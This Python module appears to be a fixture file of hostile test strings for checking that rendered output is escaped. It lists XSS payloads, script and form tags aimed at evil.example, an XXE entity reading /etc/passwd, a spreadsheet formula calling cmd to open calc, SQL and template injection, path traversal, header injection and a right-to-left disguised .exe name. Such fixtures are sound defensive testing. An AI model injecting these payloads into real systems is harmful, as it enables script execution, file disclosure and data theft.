"""Texts that harm whoever shows them wrongly: for every page, chart, file and report.

None of them may run, load, hide or break anything. Hosts are reserved ones (RFC 2606, RFC 6761).
"""

from __future__ import annotations

from typing import Final

LONG: Final = 10_000
"""Characters of names that are too long for any place."""

SCRIPTS: Final = (
    "<script>alert(1)</script>",
    "</script><script>alert(2)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "</title><script>alert(3)</script>",
    "</style><script>alert(4)</script>",
    "</textarea><script>alert(5)</script>",
    "--><script>alert(6)</script><!--",
    "]]><script>alert(7)</script>",
    "<!--<script>alert(8)//-->",
    "<svg><script>alert(9)</script></svg>",
    "<svg/onload=alert(10)>",
    '<img src=x onerror="alert(11)"> href',
    "<img src=x onerror=alert`12`>",
    "<body onload=alert(13)>",
    "<iframe srcdoc='<script>parent.alert(14)</script>'></iframe>",
    "<details open ontoggle=alert(15)>",
    "<math><mtext><style><img src=x onerror=alert(16)></style></mtext></math>",
    "javascript:alert(17)",
    "<a href=javascript:alert(18)>click</a>",
    "'-alert(19)-'",
    '";alert(20);//',
    "\\u003cscript\\u003ealert(21)\\u003c/script\\u003e",
    "</scr\x00ipt><script>alert(22)</script>",
    "\u2028alert(23)\u2029",
    "<scr<script>ipt>alert(24)</scr</script>ipt>",
)
"""Would run something."""

MARKUP: Final = (
    '"><option onmouseover=alert(30)>',
    "<h1><img src=https://evil.example/x.png onerror=alert(31)></h1>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<style>*{background:url(https://evil.example/x.png)}</style>",
    "<object data=https://evil.example/x.swf></object>",
    "<form action=https://evil.example/><input name=token autofocus></form>",
    "<video poster=https://evil.example/x.png></video>",
    "<font color=red><b>bold</b></font>",
    "</para><para>&lt;",
    "&#60;img src=x onerror=alert(32)&#62;",
    "</td></tr></table><h1>After the table",
    "![x](https://evil.example/x.png)",
    "[click](javascript:alert(33))",
    ":red[text] :material/home: $\\href{javascript:alert(34)}{x}$",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
)
"""Would load something, or be something else than a text."""

TEMPLATES: Final = (
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "{% include 'x' %}",
    "<%= 7*7 %>",
    "{0.__class__}",
    "%(x)s%s%n",
    "{{constructor.constructor('alert(40)')()}}",
)
"""Would be computed."""

FORMULAS: Final = (
    '=HYPERLINK("https://evil.example","x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|'/c calc'!A1",
    "\uff1d1+1",
)
"""Would be computed by a spreadsheet."""

DIRECTIONS: Final = (
    "\u202egpj.exe",
    "\u202dright\u202c",
    "\u2067right to left\u2069",
    "\u200f\u200e\u061c",
    "a\u200bb\u200cc\u200dd\ufeff",
    "\u2066\u202e)1(trela\u2069",
    "Имя \u202eтекст",
    "e\u0301" * 3 + "\u0300" * 40,
)
"""Show something else than they say."""

CHARACTERS: Final = (
    "\x00\x01\x08\x0b\x0c\x1b[31mred",
    "line\nline\r\nline\rline",
    "\ud800 lone \udfff",
    "\uffff\ufffe\ufdd0",
    "\U0001f600\U0001f468\u200d\U0001f469",
    "'; DROP TABLE tips; --",
    "../../../../etc/passwd",
    "%00%0d%0aSet-Cookie: x=1",
    "\x85\xa0\xad",
    "中文名字 العربية עברית ไทย",
)
"""Are no text that every format can hold."""

LENGTHS: Final = (
    "A" * LONG,
    "<" * LONG,
    "\u202e" * LONG,
    "word " * (LONG // 5),
    "\U0001f600" * LONG,
)
"""Do not fit anywhere."""

HOSTILE: Final[tuple[str, ...]] = (
    *SCRIPTS,
    *MARKUP,
    *TEMPLATES,
    *FORMULAS,
    *DIRECTIONS,
    *CHARACTERS,
    *LENGTHS,
)
"""All of them."""
